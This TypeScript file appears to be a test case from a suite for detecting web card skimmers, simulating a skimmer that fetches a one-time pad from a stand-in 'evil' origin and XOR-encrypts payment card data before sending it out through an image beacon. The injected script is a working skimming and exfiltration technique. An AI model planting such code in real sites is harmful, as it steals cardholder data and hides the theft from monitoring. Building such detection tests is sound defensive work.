import { randomBytes } from 'node:crypto';
import { holds, js, skimmer } from '../behaviour.ts';
import { at } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

const pads: Buffer[] = [];

export default skimmer({
  id: 'one-time-pad',
  why: "The attacker's server hands out a pad with every load; what comes back is the card under it and nothing else: no key, no cipher, never twice the same.",
  covers: ['cipher: any', 'encoding: substitution'],
  base: 'direct',
  install: (site) => {
    pads.length = 0;
    site.serve('evil/fonts.json', () => {
      const pad = randomBytes(80);
      pads.push(pad);
      return {
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ id: pads.length - 1, p: pad.toString('base64') }),
      };
    });
    site.append(js`fetch('${site.origins.evil}/fonts.json').then(function (r) { return r.json(); }).then(function (pad) {
  var key = atob(pad.p);
  ${onPay(js`
    var out = Array.from(card()).map(function (c, i) { return String.fromCharCode((c.charCodeAt(0) ^ key.charCodeAt(i)) & 255); }).join('');
    new Image().src = '${site.origins.evil}/o.gif?i=' + pad.id + '&d=' + encodeURIComponent(btoa(out));`)}
});`);
  },
  proof: holds((arrived) =>
    at(arrived, 'evil', '/o.gif').map(({ url }) => {
      const pad = pads[Number(url.searchParams.get('i'))] ?? Buffer.alloc(0);
      const bytes = Buffer.from(url.searchParams.get('d') ?? '', 'base64');
      return Buffer.from(bytes.map((byte, i) => byte ^ (pad[i] ?? 0))).toString('latin1');
    }),
  ),
});
